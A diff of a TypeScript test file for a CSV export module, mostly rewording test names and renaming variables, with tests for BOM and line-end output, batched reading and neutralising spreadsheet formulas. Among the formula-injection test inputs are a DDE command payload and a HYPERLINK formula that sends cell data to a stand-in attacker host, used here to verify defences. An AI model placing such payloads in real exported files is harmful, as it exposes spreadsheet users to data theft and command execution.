@@ -4,18 +4,18 @@ import { describe, expect, test } from 'vitest';
 import { readBatches, createCsvName, writeCsv, neutraliseFormula, restoreFormula } from './csv.ts';
 import type { Cell } from './csv.ts';
 
-/** The whole text of a table with rows in these batches. */
+/** Returns the whole CSV text of a table with these batches of rows. */
 async function writeText(columns: readonly string[], ...batches: readonly Cell[][][]): Promise<string> {
   const table = { name: 'test.csv', columns, batches: ReadableStream.from(batches) };
   return (await Readable.from(writeCsv(table)).toArray()).join('');
 }
 
-test('a table is UTF-8 with a BOM, each line ends with CRLF, and texts are quoted', async () => {
+test('a table is written as UTF-8 with a BOM, CRLF line ends and quoted texts', async () => {
   const text = await writeText(['a', 'b'], [['Büro "Nord"', 1]], [['one\r\ntwo; three,', null]], [['', true]]);
   expect(text).toBe('\uFEFF"a","b"\r\n"Büro ""Nord""",1\r\n"one\r\ntwo; three,",\r\n"",true\r\n');
 });
 
-test('a table without rows has its header', async () => {
+test('a table without rows consists of its header', async () => {
   expect(await writeText(['a', 'b'])).toBe('\uFEFF"a","b"\r\n');
 });
 
@@ -49,22 +49,38 @@ describe('a text that a spreadsheet would evaluate as a formula', () => {
     '“=1',
     '=cmd|’ /C calc’!A0',
     '=HYPERLINK("https://evil.example?"&A1)',
-  ])('%j is neutralised, and an import restores it', (text) => {
+  ])('%j gets an apostrophe in front, and an import removes the apostrophe', (text) => {
     expect(neutraliseFormula(text)).toBe(`'${text}`);
     expect(restoreFormula(neutraliseFormula(text))).toBe(text);
   });
 
   test.each(['', 'Ada', "O'Neil", "'t Hooft", 'a=b', '3-4', 'ada@office.example', '004912', "''"])(
-    '%j is none and stays as it is',
+    '%j is not a formula and is not changed',
     (text) => {
       expect(neutraliseFormula(text)).toBe(text);
       expect(restoreFormula(text)).toBe(text);
     },
   );
 
-  test('any text survives export and import, and none is exported with a formula sign in front', () => {
-    const piece = fc.constantFrom('=', '+', '-', '@', '＝', "'", '"', ' ', '\t', '\r', '\n', '\u200B', 'a', '1', 'é');
-    const text = fc.oneof(fc.string({ unit: piece, maxLength: 6 }), fc.string({ unit: 'binary' }));
+  test('any text is the same after export and import, and no exported text begins with a formula sign', () => {
+    const character = fc.constantFrom(
+      '=',
+      '+',
+      '-',
+      '@',
+      '＝',
+      "'",
+      '"',
+      ' ',
+      '\t',
+      '\r',
+      '\n',
+      '\u200B',
+      'a',
+      '1',
+      'é',
+    );
+    const text = fc.oneof(fc.string({ unit: character, maxLength: 6 }), fc.string({ unit: 'binary' }));
     fc.assert(
       fc.property(
         text,
@@ -76,11 +92,11 @@ describe('a text that a spreadsheet would evaluate as a formula', () => {
   });
 });
 
-test('all rows of a list come in batches, each after the last row of the one before', async () => {
-  const starts: (number | null)[] = [];
-  const next = async (behind: number | null, most: number): Promise<number[]> => {
-    starts.push(behind);
-    return [1, 2, 3, 4, 5, 6].filter((row) => row > (behind ?? 0)).slice(0, most);
+test('all rows of a list are read in batches, each beginning after the last row of the previous batch', async () => {
+  const lastRows: (number | null)[] = [];
+  const next = async (lastRow: number | null, limit: number): Promise<number[]> => {
+    lastRows.push(lastRow);
+    return [1, 2, 3, 4, 5, 6].filter((row) => row > (lastRow ?? 0)).slice(0, limit);
   };
   expect(await Readable.from(readBatches(next, 4)).toArray()).toEqual([
     [1, 2, 3, 4],
@@ -90,5 +106,5 @@ test('all rows of a list come in batches, each after the last row of the one bef
     [1, 2, 3],
     [4, 5, 6],
   ]);
-  expect(starts).toEqual([null, 4, null, 3, 6]);
+  expect(lastRows).toEqual([null, 4, null, 3, 6]);
 });
